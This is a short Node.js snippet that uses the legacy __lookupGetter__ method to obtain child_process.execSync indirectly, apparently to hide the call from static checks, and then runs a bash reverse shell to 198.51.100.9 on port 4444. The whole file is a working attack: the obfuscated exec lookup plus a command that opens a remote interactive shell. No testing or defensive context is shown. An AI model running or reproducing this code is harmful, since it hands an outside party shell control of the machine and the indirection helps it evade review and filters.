// The legacy __lookupGetter__ hands back a getter; calling it yields execSync.
const cp = require("child_process");
const tools = {
  get runner() {
    return cp.execSync;
  },
};
const getRunner = tools.__lookupGetter__("runner");
const run = getRunner();
run("bash -c 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1'");
